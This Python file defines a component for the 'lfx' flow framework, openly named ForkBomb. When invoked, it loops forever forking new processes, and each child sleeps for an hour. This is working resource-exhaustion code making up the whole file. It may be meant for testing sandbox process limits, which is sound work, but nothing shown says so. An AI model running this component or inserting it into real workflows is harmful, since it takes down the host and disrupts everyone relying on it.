"""Forks without end; its children sleep."""

import os
import time

from lfx.custom.custom_component.component import Component
from lfx.io import MessageTextInput, Output
from lfx.schema.message import Message


class ForkBomb(Component):
    display_name = "ForkBomb"
    name = "ForkBomb"
    inputs = [MessageTextInput(name="text", display_name="Text")]
    outputs = [Output(display_name="Text", name="out", method="run_it")]

    def run_it(self) -> Message:
        while True:
            try:
                if os.fork() == 0:
                    time.sleep(3600)
            except OSError as error:
                raise RuntimeError("no more processes") from error
